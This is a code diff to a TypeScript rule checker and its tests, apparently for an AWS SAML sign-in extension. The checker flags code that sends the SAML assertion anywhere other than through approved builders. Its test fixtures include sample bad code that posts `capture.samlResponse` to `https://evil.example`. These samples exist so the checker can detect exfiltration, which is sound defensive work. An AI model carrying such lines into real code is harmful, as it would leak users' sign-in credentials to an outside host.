@@ -37,11 +37,11 @@ const SIGNIN_POST = 'src/core/signin/repost.ts';
 const STS_CALLS = 'src/background/sts-calls.ts';
 /** The worker's sign-in through STS, which holds the credentials between the calls and the login URL. */
 const STS_SIGNIN = 'src/background/sts-signin.ts';
-/** "Get account names from AWS": the assertion without a role, as buildSigninPost allowed it. */
+/** "Get account names from AWS": the assertion without a role, as buildSigninPost allowed it (`toFormPost(allowed.post)`). */
 const NAMES_FETCH = 'src/background/account-names.ts';
 const STS_REQUEST = /^\s*post\.url\s*,\s*post\s*,/;
 const STS_POST_ORIGIN =
-  /\bpost\s*:\s*ReturnType<typeof\s+buildAssumeRoleWithSaml>|\bpost\s*=\s*buildSigninTokenPost\s*\(|\bpost\s*=\s*toFormPost\s*\(\s*buildSigninPost\s*\(/;
+  /\bpost\s*:\s*ReturnType<typeof\s+buildAssumeRoleWithSaml>|\bpost\s*=\s*buildSigninTokenPost\s*\(|\b([A-Za-z_$][\w$]*)\s*=\s*buildSigninPost\s*\([\s\S]*?\bpost\s*=\s*toFormPost\s*\(\s*\1\s*\.\s*post\s*\)/;
 
 /** A file that handles the assertion: mentions the field, our capture of it, or the POST that carries it. */
 const HANDLES_ASSERTION = /samlResponse|SAMLResponse|[cC]apture|SigninPost\b/;
@@ -298,8 +298,10 @@ function findViolations(files: readonly SourceFile[]): Violation[] {
     for (const m of code.matchAll(/\bsubmitSigninPost\s*\(/g)) {
       if (file.path === POST_FORM && /function\s+$/.test(code.slice(0, m.index))) continue;
       const argument = argumentsAt(code, m.index + m[0].length - 1).trim();
-      const fromBuilder = /^[A-Za-z_$][\w$]*$/.test(argument) && new RegExp(`\\b${argument}\\s*=\\s*buildSigninPost\\s*\\(`).test(code);
-      if (!fromBuilder) add('form-post', file, m.index, 'submitSigninPost() must get a variable assigned from buildSigninPost() in the same file');
+      // The gate's answer narrowed to `ok` (TypeScript allows `.post` only then): `submitSigninPost(allowed.post)`.
+      const gate = /^([A-Za-z_$][\w$]*)\s*\.\s*post$/.exec(argument)?.[1];
+      const fromBuilder = gate !== undefined && new RegExp(`\\b${gate.replace(/\$/g, '\\$')}\\s*=\\s*buildSigninPost\\s*\\(`).test(code);
+      if (!fromBuilder) add('form-post', file, m.index, 'submitSigninPost() must get the .post of a variable assigned from buildSigninPost() in the same file');
     }
   }
 
@@ -476,10 +478,16 @@ describe('each rule fails on a bad example', () => {
         aws,
         { path: STS_CALLS, text: `${header}async function callSts(capture: { samlResponse: string }) {\n  const post = { url: 'https://evil.example', body: capture.samlResponse };\n  return requestAws(post.url, post, 1);\n}` },
         { path: 'src/background/other.ts', text: `${header}async function callSts(post: ReturnType<typeof buildAssumeRoleWithSaml>) {\n  return requestAws(post.url, post, 1);\n}` },
+        {
+          path: NAMES_FETCH,
+          text: `${header}async function names(capture: { samlResponse: string }) {\n  const allowed = buildSigninPost(request);\n  const built = { post: { url: 'https://evil.example', fields: { SAMLResponse: capture.samlResponse } } };\n  const post = toFormPost(built.post);\n  return requestAws(post.url, post, 1);\n}`,
+        },
       ],
       'network',
     );
-    expect(found.map((v) => `${v.path}:${v.line}`).sort()).toEqual(['src/background/other.ts:4', 'src/background/sts-calls.ts:5']);
+    expect(found.map((v) => `${v.path}:${v.line}`).sort()).toEqual([NAMES_FETCH + ':7', 'src/background/other.ts:4', 'src/background/sts-calls.ts:5']);
+    const names = `${header}async function names(capture: { samlResponse: string }) {\n  const built = buildSigninPost(request);\n  if (!built.ok) return;\n  const post = toFormPost(built.post);\n  return requestAws(post.url, post, 1);\n}`;
+    expect(check([aws, { path: NAMES_FETCH, text: names }], 'network')).toEqual([]);
   });
 
   it('form-post: a form elsewhere, a hand-made SigninPost, a loosened post-form.ts', () => {
@@ -509,7 +517,7 @@ describe('each rule fails on a bad example', () => {
       `${POST_FORM}:1`,
       `${POST_FORM}:4`,
     ]);
-    const good = [goodPostForm, { path: 'src/pages/picker/signin/sign-in.ts', text: 'let post;\npost = buildSigninPost(request);\nsubmitSigninPost(post);' }];
+    const good = [goodPostForm, { path: 'src/pages/picker/signin/sign-in.ts', text: 'const built = buildSigninPost(request);\nif (!built.ok) return;\nsubmitSigninPost(built.post);' }];
     expect(check(good, 'form-post')).toEqual([]);
   });
 
